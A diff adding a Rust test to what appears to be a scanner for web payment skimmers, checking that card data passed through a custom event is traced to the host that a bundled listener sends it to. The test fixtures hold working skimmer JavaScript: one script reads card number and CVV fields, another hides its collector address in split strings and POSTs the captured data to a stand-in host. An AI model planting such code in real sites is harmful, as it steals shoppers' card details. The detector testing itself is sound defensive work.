@@ -3,7 +3,9 @@
 //! across the scripts of one page (they share one window): each script exports its pipes and
 //! the page-level join connects them. An event bus that keeps its handlers in a list or a
 //! `Map` and calls them through a name (`forEach(f => f(...args))`, `fn.apply(null, args)`)
-//! passes its arguments to those handlers.
+//! passes its arguments to those handlers. A listener that sends somewhere only a run
+//! resolves (a bundle's module config) is run on the stub page with its event's `detail`
+//! marked, and the mark's destination is the host the join names.
 
 mod common;
 mod engine_support;
@@ -67,6 +69,36 @@ fn events_between_scripts_are_joined() {
             .iter()
             .any(|f| f.hosts == vec!["step-metrics-cdn.example".to_string()]),
         "{joined:?}"
+    );
+}
+
+/// A bundle whose module runtime keeps the collector's address in another module
+/// (`__req(1).url`): statically the listener sends to an unknown place; a run on the stub page
+/// fires its event with a marked `detail` and sees where the mark went. Joined with the
+/// script that puts the card into the event, the host is named; a cart event with no card
+/// data in it, relayed the same way, stays quiet.
+#[test]
+fn an_event_relayed_by_a_bundle_is_joined_with_the_host_a_run_resolves() {
+    let engine = engine();
+    let bundle = "(function (modules) {\n  var cache = {};\n  function req(id) { if (cache[id]) return cache[id].exports; var m = cache[id] = { exports: {} }; modules[id].call(m.exports, m, m.exports, req); return m.exports; }\n  req(2);\n})({\n  1: function (module) { var p = ['https:', '', 'in.bundle-metrics-cdn.example', 'e']; module.exports = { url: p.join('/') }; },\n  2: function (module, exports, req) {\n    var cfg = req(1);\n    document.addEventListener('checkout:ready', function (e) { fetch(cfg.url + '?t=' + Date.now(), { method: 'POST', body: JSON.stringify({ d: e.detail }), keepalive: true }); });\n  }\n});";
+    let writer = "document.getElementById('cc_cid').addEventListener('blur', function () {\n  document.dispatchEvent(new CustomEvent('checkout:ready', { detail: { pan: document.getElementById('cc_number').value, cvv: document.getElementById('cc_cid').value } }));\n});";
+    let cart = "document.querySelector('.qty').addEventListener('change', function (e) {\n  document.dispatchEvent(new CustomEvent('checkout:ready', { detail: { qty: e.target.value.length > 3 ? 0 : 1, sku: 'SKU-1' } }));\n});";
+    let r = engine.analyse_batch(vec![
+        job("writer.js", writer),
+        job("bundle.js", bundle),
+        job("cart.js", cart),
+    ]);
+    let joined = engine.join_pipes("p", &[("writer.js", &r[0]), ("bundle.js", &r[1])]);
+    assert!(
+        joined.iter().any(|f| f.severity == Severity::Critical
+            && f.hosts == vec!["in.bundle-metrics-cdn.example".to_string()]
+            && f.script.as_deref() == Some("bundle.js")),
+        "{joined:?}"
+    );
+    let quiet = engine.join_pipes("p", &[("cart.js", &r[2]), ("bundle.js", &r[1])]);
+    assert!(
+        quiet.iter().all(|f| f.severity < Severity::High),
+        "{quiet:?}"
     );
 }
 
